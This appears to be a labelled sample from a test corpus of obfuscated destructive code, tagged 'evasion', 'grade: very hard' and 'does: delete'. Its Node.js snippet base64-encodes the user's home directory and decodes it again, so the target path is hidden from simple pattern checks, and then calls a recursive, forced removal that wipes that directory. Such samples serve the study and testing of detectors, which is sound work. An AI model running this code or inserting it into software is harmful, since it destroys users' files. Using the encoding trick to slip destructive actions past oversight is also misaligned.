// evasion: the home directory encoded as base64 by Buffer and decoded by atob before it is removed
// grade: very hard; does: delete
const fsp = require("fs/promises");
const os = require("os");
const packed = Buffer.from(os.homedir(), "utf8").toString("base64");
fsp.rm(atob(packed), { recursive: true, force: true });
